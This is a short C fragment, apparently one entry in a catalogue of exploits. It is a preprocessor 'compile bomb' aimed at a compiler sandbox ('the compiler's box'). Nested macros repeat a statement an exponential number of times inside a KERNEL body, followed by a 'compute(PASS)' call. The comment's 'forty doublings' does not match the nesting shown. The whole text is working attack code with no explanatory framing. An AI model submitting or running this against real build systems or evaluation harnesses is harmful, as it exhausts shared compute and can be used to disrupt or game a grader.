/* A compile bomb: forty doublings of one macro.
 * exploit: F38
 * layer: the compiler's box
 */
#define A(x) x x x x x x x x
#define B(x) A(A(A(x)))
#define C(x) B(B(B(x)))
KERNEL { C(C(out[0]++;)) compute(PASS); }
